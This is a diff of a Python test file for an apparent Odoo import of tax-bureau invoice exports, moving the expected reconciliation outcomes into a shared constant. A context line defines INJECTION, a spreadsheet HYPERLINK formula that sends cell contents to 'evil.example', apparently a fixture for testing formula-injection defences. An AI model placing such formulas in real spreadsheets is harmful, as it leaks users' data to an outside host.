@@ -16,6 +16,18 @@ MONTH_END = date(2026, 10, 31)
 SELLER = "91440300MA5F00012E"
 OTHER_SELLER = "91110000600037341L"
 DAY = date(2026, 10, 15)
+# The outcome of each line of BureauImportCommon.month_rows().
+MONTH_OUTCOMES = {
+    "26442000000000000001": "matched",
+    "26442000000000000002": "matched",
+    "01234567": "matched",
+    "26442000000000000004": "odoo_only",
+    "26442000000000000005": "amount_mismatch",
+    "00000006": "status_mismatch",
+    "26442000000000000007": "matched",
+    "26442000000000000008": "bureau_only",
+    "26442000000000000009": "other_seller",
+}
 INJECTION = '=HYPERLINK("http://evil.example/steal?c="&A1,"查看详情")'
 
 
@@ -128,20 +140,7 @@ class TestBureauImport(BureauImportCommon):
     # ------------------------------------------------------------------ outcomes
     def test_month_reconciles_into_every_outcome(self):
         batch = self.do_import(be.write_export_xlsx(self.month_rows()))
-        self.assertEqual(
-            self.outcomes(batch),
-            {
-                "26442000000000000001": "matched",
-                "26442000000000000002": "matched",
-                "01234567": "matched",
-                "26442000000000000004": "odoo_only",
-                "26442000000000000005": "amount_mismatch",
-                "00000006": "status_mismatch",
-                "26442000000000000007": "matched",
-                "26442000000000000008": "bureau_only",
-                "26442000000000000009": "other_seller",
-            },
-        )
+        self.assertEqual(self.outcomes(batch), MONTH_OUTCOMES)
         counts = (batch.count_matched, batch.count_odoo_only, batch.count_bureau_only,
                   batch.count_amount_mismatch, batch.count_status_mismatch,
                   batch.count_other_seller)  # fmt: skip
